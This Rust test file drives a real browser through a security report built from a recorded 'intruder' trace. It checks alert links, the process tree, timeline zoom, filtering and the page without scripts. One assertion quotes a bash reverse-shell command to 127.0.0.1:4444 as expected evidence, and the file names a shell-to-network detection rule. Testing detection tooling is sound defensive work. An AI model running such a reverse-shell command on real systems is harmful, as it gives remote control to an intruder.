//! Reports in a real browser: seen at two widths in two colours, clicked through, with hostile names, without scripts.
//!
//! Where there is no Chromium each test says that it is skipped. `SCAP_SHOTS=DIR` keeps pictures.
#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "a test may fail, and says what it skips")]

mod chromium;
#[path = "../common/mod.rs"]
mod common;
mod hostile;
mod looks;

use chromium::Browser;
use common::{dir, path, scap};
use serde_json::json;
use std::path::Path;

const INTRUDER: &str = "../samples/traces/intruder.zst";

/// A report of the intruder, in a folder that goes with it.
fn intruder() -> (tempfile::TempDir, String) {
    let dir = dir();
    let out = path(&dir, "report.html");
    let done = scap(&["report", INTRUDER, "-o", &out]);
    assert_eq!(done.code, 0, "{}", done.err);
    (dir, out)
}

/// The id of the first alert of the reverse shell.
const SHELL: &str = "[...document.querySelectorAll('.rule')].find((rule) => rule.textContent.includes(
    'Shell talks to the network on its standard streams')).querySelector('details.alert').id";

#[test]
fn an_alert_leads_to_its_evidence_and_the_parents_of_the_reverse_shell() {
    let Some(mut browser) = Browser::start("an_alert_leads_to_its_evidence_…") else { return };
    let (_dir, out) = intruder();
    browser.look(1280, false);
    browser.open(Path::new(&out));

    // From the summary to the alert.
    let id = browser.ask(SHELL).as_str().unwrap().to_owned();
    assert!(!browser.is(&format!("document.getElementById('{id}').open")));
    browser.click(&format!("#summary .leads a[href='#{id}']"));
    browser.wait_for(&format!("document.getElementById('{id}').open"));
    let chain = browser.ask(&format!(
        "[...document.querySelectorAll('#{id} .chain .name')].map((name) => name.textContent).join(' ')"
    ));
    assert!(chain.as_str().unwrap().ends_with("unshare intruder bash bash"), "{chain}");
    let commands = browser.ask(&format!("document.querySelector('#{id} .chain').innerText"));
    assert!(
        commands.as_str().unwrap().contains("bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
        "{commands}"
    );

    // Its events, the alert's own among them, in order and with their numbers.
    let rows = browser.ask(&format!(
        "[...document.querySelectorAll('#{id} .events tbody tr')].map((row) => [row.className, row.innerText])"
    ));
    let rows = rows.as_array().unwrap();
    assert!((20..=25).contains(&rows.len()), "{} rows", rows.len());
    let hit = rows.iter().find(|row| row[0] == "hit").unwrap()[1].as_str().unwrap();
    assert!(hit.contains("21029") && hit.contains("dup2"), "{hit}");
    let before = rows[rows.iter().position(|row| row[0] == "hit").unwrap() - 1][1].as_str().unwrap();
    assert!(before.contains("connect") && before.contains("127.0.0.1:4444"), "{before}");
    browser.shoot("evidence-1280-light");

    // From its chain into the tree, when the page has done what it does about it.
    browser.ask("addEventListener('hashchange', () => { window.went = location.hash; })");
    browser.click(&format!("#{id} .chain li.self a.who"));
    browser.wait_for("(window.went || '').startsWith('#proc-')");
    let parents = browser.ask(
        "(() => { const names = []; let at = document.querySelector(location.hash);
           for (; at; at = at.parentElement.closest('li.node')) names.push(at.querySelector('.name').textContent);
           return names.reverse().join(' '); })()",
    );
    assert!(parents.as_str().unwrap().ends_with("unshare intruder bash bash"), "{parents}");
    browser.click("li.node:target > details > summary");
    browser.wait_for("!document.querySelector('li.node:target > details').open");
    browser.click("li.node:target > details > summary");
    browser.wait_for("document.querySelector('li.node:target > details').open");
    browser.shoot("tree-1280-light");

    // And from the timeline to the alert.
    browser.ask(&format!("document.getElementById('{id}').open = false"));
    browser.click(&format!("#timeline a[href='#{id}']"));
    browser.wait_for(&format!("document.getElementById('{id}').open"));
    assert_eq!(browser.mishaps(), Vec::<String>::new());
}

#[test]
fn the_plot_is_enlarged_and_limits_the_timeline() {
    let Some(mut browser) = Browser::start("the_plot_is_enlarged_…") else { return };
    let (_dir, out) = intruder();
    browser.look(1280, false);
    browser.open(Path::new(&out));
    let lines = "[...document.querySelectorAll('#timeline tbody tr')].filter((row) => row.style.display !== 'none').length";
    let all = browser.ask(lines).as_u64().unwrap();
    let axis =
        "[...document.querySelectorAll('#activity .axis span')].map((tick) => tick.textContent).join(' ')";
    let before = browser.ask(axis);
    browser.ask("document.querySelector('.canvas').scrollIntoView({ block: 'center' })");
    let place = browser.ask("(() => { const b = document.querySelector('.canvas').getBoundingClientRect(); return [b.left, b.top, b.width, b.height]; })()");
    let [left, top, width, height] = [0, 1, 2, 3].map(|at| place[at].as_f64().unwrap());
    let y = top + height / 3.0;
    browser.drag((left + width * 0.8, y), (left + width * 0.95, y));
    browser.wait_for(&format!("{lines} < {all}"));
    assert_ne!(browser.ask(axis), before);
    let left_over = browser.ask(lines).as_u64().unwrap();
    assert!(left_over > 0);
    browser.shoot("zoomed-1280-light");
    browser.click("[data-zoom='all']");
    browser.wait_for(&format!("{lines} === {all}"));
    assert_eq!(browser.ask(axis), before);

    // What the timeline shows can be chosen.
    browser.click("#timeline [data-show='plain']");
    browser.wait_for(&format!("{lines} < {all}"));
    assert!(browser.is("!!document.querySelector('#timeline .l-alert')"));
    assert_eq!(browser.mishaps(), Vec::<String>::new());
}

#[test]
fn the_filter_finds_alerts_by_their_evidence_and_processes_by_their_names() {
    let Some(mut browser) = Browser::start("the_filter_finds_…") else { return };
    let (_dir, out) = intruder();
    browser.look(1280, false);
    browser.open(Path::new(&out));
    browser.click("#filter");
    browser.write("kworkerd");
    browser.wait_for("document.querySelector('#found').textContent.endsWith('found')");
    let shown = browser.ask("[...document.querySelectorAll('.node')].filter((node) => node.checkVisibility()).map((node) => node.querySelector('.name').textContent)");
    assert!(
        shown.as_array().unwrap().contains(&json!("kworkerd"))
            && !shown.as_array().unwrap().contains(&json!("cat")),
        "{shown}"
    );
    let rules = browser.ask("[...document.querySelectorAll('.rule')].filter((rule) => !rule.hidden).length");
    assert!((1..16).contains(&rules.as_u64().unwrap()), "{rules}");
    browser.shoot("filtered-1280-light");
    browser.ask("(() => { const box = document.querySelector('#filter'); box.value = ''; box.dispatchEvent(new Event('input')); })()");
    browser.wait_for("document.querySelectorAll('.f[hidden]').length === 0");
    assert_eq!(browser.mishaps(), Vec::<String>::new());
}

#[test]
fn without_scripts_everything_is_there_and_unfolds() {
    let Some(mut browser) = Browser::start("without_scripts_…") else { return };
    let (_dir, out) = intruder();
    browser.look(1280, false);
    browser.forbid_scripts();
    browser.open(Path::new(&out));
    assert!(!browser.is("document.documentElement.classList.contains('scripted')"), "its script did not run");
    assert!(
        browser
            .is("[...document.querySelectorAll('.needs-script')].every((tool) => !tool.checkVisibility())")
    );
    let id = browser.ask(SHELL).as_str().unwrap().to_owned();
    browser.click(&format!("#{id} > summary"));
    browser.wait_for(&format!("document.getElementById('{id}').open"));
    let chain = browser.ask(&format!("document.querySelector('#{id} .chain').innerText"));
    assert!(chain.as_str().unwrap().contains("intruder"), "{chain}");
    assert!(
        browser.is("document.querySelectorAll('#activity svg rect').length > 50"),
        "the picture is there"
    );
    browser.shoot("no-script-1280-light");
}
